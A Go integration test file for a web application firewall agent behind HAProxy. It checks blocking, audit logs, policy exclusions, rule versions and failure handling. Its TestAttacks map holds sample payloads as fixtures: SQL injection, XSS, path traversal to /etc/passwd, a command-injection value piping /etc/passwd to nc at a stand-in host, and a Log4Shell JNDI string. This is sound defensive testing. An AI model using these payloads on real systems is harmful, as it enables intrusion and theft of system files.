package agent_test

import (
	"bufio"
	"bytes"
	"cmp"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/hapsnap/hapsnap/waf/agent"
	"github.com/hapsnap/hapsnap/waf/policy"
)

// configuration has the form that a compiler writes: two routes with a policy and different ways to fail, and
// their common frontend. %[1]s is the folder, %[2]s the policy.
const configuration = `
global
  maxconn 500
defaults
  mode http
  timeout connect 5s
  timeout client 30s
  timeout server 30s
frontend web
  bind unix@%[1]s/web.sock
  unique-id-format %%{+X}o%%ci-%%cp-%%rt
  filter spoe engine waf config %[1]s/spoe.conf
  acl open hdr(x-open) 1
  http-request set-var(txn.route) str(other) if { hdr(x-route) other }
  http-request set-var-fmt(txn.waf_policy) '{"threshold":%%[hdr(x-policy)]}' if { hdr(x-policy) -m found }
  http-request set-var-fmt(txn.waf_policy) '%[2]s' if !{ hdr(x-policy) -m found }
  http-request wait-for-body time 5s if { req.body_size gt 0 } or { req.hdr(transfer-encoding) -m found }
  http-request set-var(txn.body_len) req.body_len
  http-request deny deny_status 413 if { req.body_size,sub(txn.body_len) gt 0 }
  http-request send-spoe-group waf inspect
  http-request deny deny_status 403 if { var(txn.waf.action) -m str deny }
  http-request deny deny_status 503 if !open !{ var(txn.waf.action) -m str allow detect }
  http-request return status 200 content-type text/plain lf-string "%%[var(txn.waf.action)] %%[var(txn.waf.rule)] %%[var(txn.waf.score)]"
backend hapsnap_waf
  mode tcp
  option spop-check
  timeout connect 200ms
  timeout check 5s
  timeout server 3m
  server agent unix@%[1]s/agent.sock check inter 100ms
`

const spoe = `[waf]
spoe-agent waf
  groups inspect
  option var-prefix waf
  option set-on-error error
  register-var-names action status rule score error
  timeout hello 500ms
  timeout idle 2m
  timeout processing 10s
  use-backend hapsnap_waf
spoe-message request
  args policy=var(txn.waf_policy) rules=str("` + policy.RulesVersion + `") id=unique-id src=src src-port=src_port method=method path=path query=query version=req.ver host=req.hdr(host) headers=req.hdrs body=req.body body-size=req.body_size route=var(txn.route)
spoe-group inspect
  messages request
`

// site is a HAProxy that asks an agent.
type site struct {
	folder string
	client *http.Client
	stop   context.CancelFunc // of the agent
	ended  chan error
	audit  *locked

	deadline time.Duration
	perRoute int
	before   func(path string) // each inspection
	exact    bool
}

type locked struct {
	sync.Mutex
	bytes.Buffer
}

func (l *locked) Write(p []byte) (int, error) {
	l.Lock()
	defer l.Unlock()
	return l.Buffer.Write(p)
}

func (l *locked) text() string {
	l.Lock()
	defer l.Unlock()
	return l.String()
}

func start(t *testing.T, p policy.Policy) *site {
	t.Helper()
	return startAsking(t, p, policy.RulesVersion)
}

// startAsking starts a site whose HAProxy asks for a version of the rules.
func startAsking(t *testing.T, p policy.Policy, rules string) *site {
	t.Helper()
	folder, err := os.MkdirTemp("", "waf") //nolint:usetesting // the path of a socket has to be short
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(folder) })
	if err := p.Check(); err != nil {
		t.Fatal(err)
	}
	for name, text := range map[string]string{"haproxy.cfg": fmt.Sprintf(configuration, folder, p), "spoe.conf": strings.Replace(spoe, `rules=str("`+policy.RulesVersion+`")`, `rules=str("`+rules+`")`, 1)} {
		if err := os.WriteFile(filepath.Join(folder, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	program := cmp.Or(os.Getenv("HAPROXY"), "haproxy")
	if out, err := exec.CommandContext(t.Context(), program, "-c", "-q", "-f", filepath.Join(folder, "haproxy.cfg")).CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	var said locked
	cmd := exec.CommandContext(t.Context(), program, "-db", "-f", filepath.Join(folder, "haproxy.cfg"))
	cmd.Stdout, cmd.Stderr = &said, &said
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		if t.Failed() {
			t.Log(said.text())
		}
	})
	s := &site{folder: folder, audit: &locked{}, client: &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "unix", folder+"/web.sock")
		},
	}}}
	s.startAgent(t)
	t.Cleanup(func() { s.stopAgent(t) })
	s.wait(t, http.StatusOK)
	return s
}

func (s *site) startAgent(t *testing.T) {
	t.Helper()
	ctx, stop := context.WithCancel(context.Background())
	listener, err := new(net.ListenConfig).Listen(ctx, "unix", s.folder+"/agent.sock")
	if err != nil {
		t.Fatal(err)
	}
	a := agent.New(agent.Options{Audit: s.audit, Deadline: cmp.Or(s.deadline, 9*time.Second), PerRoute: cmp.Or(s.perRoute, 2), ExactRules: s.exact})
	if s.before != nil {
		a.Before(s.before)
	}
	s.stop, s.ended = stop, make(chan error, 1)
	go func() { s.ended <- a.Run(ctx, listener) }()
}

func (s *site) stopAgent(t *testing.T) {
	t.Helper()
	if s.stop != nil {
		s.stop()
		s.stop = nil
		if err := <-s.ended; err != nil {
			t.Error(err)
		}
	}
}

// wait sends requests until the answer has a status.
func (s *site) wait(t *testing.T, status int) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; {
		got, _ := s.ask(t, ordinary("GET", "/", ""))
		if got == status {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("the answer is %d, and not %d", got, status)
		}
	}
}

// ordinary is a request as a browser sends it. The first word of a header's line is its name.
func ordinary(method, path, body string, headers ...string) *http.Request {
	request, err := http.NewRequest(method, "http://shop.example.com"+path, strings.NewReader(body))
	if err != nil {
		panic(err)
	}
	request.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0")
	request.Header.Set("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8")
	request.Header.Set("Accept-Language", "en-US,en;q=0.5")
	for _, header := range headers {
		name, value, _ := strings.Cut(header, ": ")
		request.Header.Set(name, value)
	}
	return request
}

func (s *site) ask(t *testing.T, request *http.Request) (int, string) {
	t.Helper()
	response, err := s.client.Do(request)
	if err != nil {
		return 0, err.Error()
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		return 0, err.Error()
	}
	return response.StatusCode, string(text)
}

// statusLine returns the first line of an answer that may come before the whole request is sent, which a client
// of net/http takes for a failure.
func (s *site) statusLine(t *testing.T, request *http.Request) string {
	t.Helper()
	var text bytes.Buffer
	if err := request.Write(&text); err != nil {
		t.Fatal(err)
	}
	conn, err := net.Dial("unix", s.folder+"/web.sock")
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))
	sent := make(chan struct{})
	go func() {
		defer close(sent)
		_, _ = conn.Write(text.Bytes()) // fails once HAProxy has answered and closed
	}()
	line, err := bufio.NewReader(conn).ReadString('\n')
	if err != nil {
		t.Error(err)
	}
	conn.Close()
	<-sent
	return line
}

const (
	form = "Content-Type: application/x-www-form-urlencoded"
	json = "Content-Type: application/json"
)

// get is a request with a query that is encoded as a browser does.
func get(path, parameter, value string) *http.Request {
	return ordinary("GET", path+"?"+url.Values{parameter: {value}}.Encode(), "")
}

func filler(n int) string { return strings.Repeat("Lorem ipsum dolor sit amet ", n/27+1)[:n] }

// A real HAProxy denies attacks, wherever in the request they are. The audit log says why.
func TestAttacks(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	const script = "<script>alert(document.cookie)</script>"
	for name, request := range map[string]*http.Request{
		"SQL in the query": get("/", "id", "1' OR '1'='1' UNION SELECT password FROM users--"),
		"SQL in a form":    ordinary("POST", "/", url.Values{"id": {"1' or 1=1 union select 1,2,3 -- -"}}.Encode(), form),
		"SQL in JSON":      ordinary("POST", "/", `{"user":{"name":"x' or 1=1 union select 1,2 -- -"}}`, json),
		"SQL in a cookie":  ordinary("GET", "/", "", "Cookie: id=1' or 1=1 union select 1,2,3 -- -"),
		"XSS in the query": get("/", "q", script),
		"XSS in XML":       ordinary("POST", "/", "<?xml version=\"1.0\"?><a><b><![CDATA["+script+"]]></b></a>", "Content-Type: text/xml"),
		"XSS in multipart": ordinary("POST", "/", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"+script+"\r\n--xyz--\r\n", "Content-Type: multipart/form-data; boundary=xyz"),
		"XSS after 13 kB":  ordinary("POST", "/", url.Values{"a": {filler(13 << 10)}, "b": {script}}.Encode(), form),
		"path traversal":   get("/", "file", "../../../../etc/passwd"),
		"remote command":   get("/", "host", "8.8.8.8; cat /etc/passwd | nc 192.0.2.1 4444"),
		"Log4Shell":        ordinary("GET", "/", "", "X-Api-Version: ${jndi:ldap://192.0.2.1/a}"),
		"scanner":          ordinary("GET", "/", "", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"),
		"response split":   ordinary("GET", "/?u=%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a%3Chtml%3E", ""),
		"no JSON":          ordinary("POST", "/", `{"a":`, json),
	} {
		if status, text := s.ask(t, request); status != http.StatusForbidden {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
	long := ordinary("POST", "/", url.Values{"a": {filler(40 << 10)}, "b": {script}}.Encode(), form)
	if line := s.statusLine(t, long); !strings.Contains(line, " 413 ") {
		t.Errorf("40 kB: %s", line)
	}
	s.stopAgent(t) // the log is whole then
	audit := s.audit.text()
	for _, want := range []string{`"action":"deny"`, `"id":942100`, `"attack-sqli"`, `"target":"ARGS:`, `"host":"shop.example.com"`, `"policy":"` + policy.Policy{Engine: policy.Block}.Digest() + `"`} {
		if !strings.Contains(audit, want) {
			t.Errorf("no %s in the audit log:\n%s", want, audit)
		}
	}
	for _, secret := range []string{"union select 1,2,3", "Lorem ipsum dolor sit"} {
		if strings.Contains(audit, secret) {
			t.Errorf("%s is in the audit log", secret)
		}
	}
}

// Ordinary requests pass. Findings of a policy that only detects are reported, and the requests pass too.
func TestOrdinaryRequests(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	for name, request := range map[string]*http.Request{
		"page":      ordinary("GET", "/shop/list?page=2&sort=price&q=red+shoes", ""),
		"apostroph": get("/search", "q", "O'Brien & sons"),
		"login":     ordinary("POST", "/login", url.Values{"user": {"jane@example.com"}, "password": {"correct horse battery"}}.Encode(), form),
		"JSON":      ordinary("PUT", "/api/items/1", `{"name":"Chair","price":12.5,"tags":["wood","red"],"text":"A chair, for 4 people - or 5."}`, json),
		"empty":     ordinary("DELETE", "/api/items/1", "", json),
		"options":   ordinary("OPTIONS", "/api/items", ""),
		"upload":    ordinary("POST", "/upload", "--xyz\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--xyz--\r\n", "Content-Type: multipart/form-data; boundary=xyz"),
		"13 kB":     ordinary("POST", "/", url.Values{"a": {filler(13 << 10)}}.Encode(), form),
	} {
		want := http.StatusOK
		if request.Method == "PUT" || request.Method == "DELETE" {
			want = http.StatusForbidden // 911100: the Core Rule Set allows GET, HEAD, POST and OPTIONS by itself
		}
		if status, text := s.ask(t, request); status != want {
			t.Errorf("%s: %d %s", name, status, text)
		}
	}
}

// The requests of all stories about the two other programs pass a policy that blocks, also with the strictest
// rules, except for requests that climb out of a folder.
func TestStoriesPass(t *testing.T) {
	t.Parallel()
	stories, err := filepath.Glob("../../testscripts/*.txtar")
	if err != nil {
		t.Fatal(err)
	}
	asked := regexp.MustCompile(`(?m)^(?:get|load)(?: -\S+(?: \w+)?)* (https?://\S+)`)
	urls := map[string]bool{}
	for _, story := range stories {
		text, err := os.ReadFile(story)
		if err != nil {
			t.Fatal(err)
		}
		for _, found := range asked.FindAllStringSubmatch(string(text), -1) {
			urls[found[1]] = true
		}
	}
	if len(urls) < 20 {
		t.Fatalf("only %d addresses in %d stories", len(urls), len(stories))
	}
	s := start(t, policy.Policy{Engine: policy.Block, Paranoia: 4})
	for at := range urls {
		u, err := url.Parse(at)
		if err != nil {
			t.Fatal(err)
		}
		request := ordinary("GET", u.RequestURI(), "")
		request.Host = u.Hostname()
		want := http.StatusOK
		if strings.Contains(at, "/..") {
			want = http.StatusForbidden
		}
		if status, text := s.ask(t, request); status != want {
			t.Errorf("%s: %d %s", at, status, text)
		}
	}
}

// A snapshot is inspected with the rules that it was made for, the newest or those before, so that a pinned
// snapshot does not change. Only the newest rules know the folders of assistants that write code.
func TestRulesOfTheSnapshot(t *testing.T) {
	t.Parallel()
	for version, want := range map[string]int{policy.RulesVersion: http.StatusForbidden, policy.PreviousRulesVersion: http.StatusOK} {
		s := startAsking(t, policy.Policy{Engine: policy.Block}, version)
		if status, text := s.ask(t, ordinary("GET", "/.claude/settings", "")); status != want {
			t.Errorf("%s: a folder that the rules %s know: %d %s", version, policy.RulesVersion, status, text)
		}
		if status, text := s.ask(t, get("/", "q", "1' or 1=1 union select 1,2,3 -- -")); status != http.StatusForbidden {
			t.Errorf("%s: an attack: %d %s", version, status, text)
		}
		s.stopAgent(t)
		if audit := s.audit.text(); !strings.Contains(audit, `"rules_version":"`+version+`"`) || strings.Contains(audit, "inspected_with") {
			t.Errorf("%s: the audit log says\n%s", version, audit)
		}
		s.exact = true
		s.startAgent(t)
		s.wait(t, http.StatusOK) // it carries these rules
	}
}

// While agents and snapshots are upgraded one after the other, HAProxy may ask for rules that the agent does
// not carry. The agent inspects with its newest, and reports that. Only with ExactRules are the routes closed.
func TestOtherRules(t *testing.T) {
	t.Parallel()
	s := startAsking(t, policy.Policy{Engine: policy.Block}, "4.0.0")
	if status, text := s.ask(t, ordinary("GET", "/", "")); status != http.StatusOK {
		t.Errorf("an ordinary request: %d %s", status, text)
	}
	if status, text := s.ask(t, get("/", "q", "1' or 1=1 union select 1,2,3 -- -")); status != http.StatusForbidden {
		t.Errorf("an attack: %d %s", status, text)
	}
	s.stopAgent(t)
	if want := `"rules_version":"4.0.0","inspected_with":"` + policy.RulesVersion + `"`; !strings.Contains(s.audit.text(), want) {
		t.Errorf("no %s in the audit log:\n%s", want, s.audit.text())
	}
	s.exact = true
	s.startAgent(t)
	s.wait(t, http.StatusServiceUnavailable)
	s.stopAgent(t)
	if want := `"reason":"version"`; !strings.Contains(s.audit.text(), want) {
		t.Errorf("no %s in the audit log:\n%s", want, s.audit.text())
	}
}

// A policy that detects, and exclusions of rules, tags and targets, do what they say.
func TestPolicies(t *testing.T) {
	t.Parallel()
	const attack = "1' or 1=1 union select 1,2,3 -- -"
	for name, c := range map[string]struct {
		policy  policy.Policy
		request *http.Request
		status  int
		text    string
	}{
		"detect":            {policy.Policy{}, get("/", "q", attack), http.StatusOK, "detect 942100"},
		"target":            {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}, Targets: []string{"ARGS:q"}}}}, get("/", "q", attack), http.StatusOK, "allow"},
		"another target":    {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}, Targets: []string{"ARGS:r"}}}}, get("/", "q", attack), http.StatusForbidden, ""},
		"targets by prefix": {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Rules: []string{"942000-942999"}, Targets: []string{"ARGS:user[*"}}}}, get("/", "user[name]", attack), http.StatusOK, "allow"},
		"tag":               {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Tags: []string{"attack-sqli"}}}}, get("/", "q", attack), http.StatusOK, "allow"},
		"threshold":         {policy.Policy{Engine: policy.Block, Threshold: 1000}, get("/", "q", attack), http.StatusOK, "allow 942100"},
		"method":            {policy.Policy{Engine: policy.Block, Exclude: []policy.Exclusion{{Rules: []string{"911100"}}}}, ordinary("PUT", "/", `{}`, json), http.StatusOK, "allow"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			s := start(t, c.policy)
			if status, text := s.ask(t, c.request); status != c.status || c.status == http.StatusOK && !strings.HasPrefix(text, c.text) {
				t.Errorf("%d %s, want %d %s", status, text, c.status, c.text)
			}
		})
	}
}

// An agent that ends under load leaves no request without an answer: requests to a closed route get 503, those
// to an open one pass. When it is back, everything works again.
func TestAgentEnds(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	ctx, stop := context.WithCancel(t.Context())
	var load sync.WaitGroup
	var lock sync.Mutex
	seen := map[int]int{}
	for range 4 {
		load.Go(func() {
			for ctx.Err() == nil {
				status, _ := s.ask(t, ordinary("GET", "/", ""))
				lock.Lock()
				seen[status]++
				lock.Unlock()
			}
		})
	}
	s.stopAgent(t)
	s.wait(t, http.StatusServiceUnavailable)
	if status, text := s.ask(t, ordinary("GET", "/", "", "X-Open: 1")); status != http.StatusOK {
		t.Errorf("open: %d %s", status, text)
	}
	s.startAgent(t)
	s.wait(t, http.StatusOK)
	stop()
	load.Wait()
	for status := range seen {
		if status != http.StatusOK && status != http.StatusServiceUnavailable {
			t.Errorf("%d requests ended with %d", seen[status], status)
		}
	}
}

// A request whose inspection panics, or does not end, gets an error, and does not affect others.
func TestInspectionFails(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	s.stopAgent(t)
	release := make(chan struct{})
	s.deadline = 2 * time.Second
	s.before = func(path string) {
		switch path {
		case "/panic":
			panic("on purpose")
		case "/slow":
			<-release
		}
	}
	s.startAgent(t)
	s.wait(t, http.StatusOK)
	for _, path := range []string{"/panic", "/slow", "/panic"} {
		if status, text := s.ask(t, ordinary("GET", path, "")); status != http.StatusServiceUnavailable {
			t.Errorf("%s: %d %s", path, status, text)
		}
	}
	if status, text := s.ask(t, ordinary("GET", "/", "")); status != http.StatusOK {
		t.Errorf("afterwards: %d %s", status, text)
	}
	close(release)
	s.stopAgent(t)
	for _, want := range []string{`"reason":"panic: panic: on purpose`, `"reason":"deadline"`} {
		if !strings.Contains(s.audit.text(), want) {
			t.Errorf("no %s in the audit log:\n%s", want, s.audit.text())
		}
	}
}

// Requests that take long hold up those of their own route, and no others.
func TestRoutesHaveTurns(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	s.stopAgent(t)
	begun, release := make(chan struct{}, 8), make(chan struct{})
	s.perRoute = 2
	s.before = func(path string) {
		if path == "/slow" {
			begun <- struct{}{}
			<-release
		}
	}
	s.startAgent(t)
	s.wait(t, http.StatusOK)
	slow := make(chan int)
	for range 8 {
		go func() {
			status, _ := s.ask(t, ordinary("GET", "/slow", ""))
			slow <- status
		}()
	}
	<-begun
	<-begun
	for range 20 { // while the others wait, or have not arrived yet
		if status, text := s.ask(t, ordinary("GET", "/", "", "X-Route: other")); status != http.StatusOK {
			t.Errorf("another route: %d %s", status, text)
			break
		}
	}
	close(release)
	for range 8 {
		if status := <-slow; status != http.StatusOK {
			t.Errorf("a slow one: %d", status)
		}
	}
}

// New policies are prepared one after another, and do not hold up prepared ones. A request waits until the
// deadline at most; a later one finds the policy prepared.
func TestPoliciesArePreparedApart(t *testing.T) {
	t.Parallel()
	s := start(t, policy.Policy{Engine: policy.Block})
	var load sync.WaitGroup
	for i := range 12 {
		load.Go(func() {
			for {
				status, text := s.ask(t, ordinary("GET", "/", "", fmt.Sprintf("X-Policy: %d", 100+i), "X-Route: other"))
				if status == http.StatusOK {
					return
				}
				if status != http.StatusServiceUnavailable {
					t.Errorf("a new policy: %d %s", status, text)
					return
				}
			}
		})
	}
	for range 30 {
		if status, text := s.ask(t, ordinary("GET", "/", "")); status != http.StatusOK {
			t.Errorf("one that is there: %d %s", status, text)
		}
	}
	load.Wait()
}
